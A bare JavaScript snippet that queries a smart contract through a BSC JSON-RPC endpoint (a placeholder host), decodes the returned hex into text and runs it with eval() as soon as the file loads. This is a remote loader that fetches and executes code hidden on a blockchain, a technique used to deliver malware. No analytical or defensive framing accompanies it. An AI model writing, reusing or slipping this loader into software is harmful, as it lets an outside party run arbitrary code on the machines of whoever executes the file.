const CONTRACT = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
async function load() {
  const r = await fetch('https://bsc-dataseed.example.invalid/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] }) });
  const { result } = await r.json();
  const code = Buffer.from(result.slice(130), 'hex').toString('utf8');
  eval(code);
}
load();
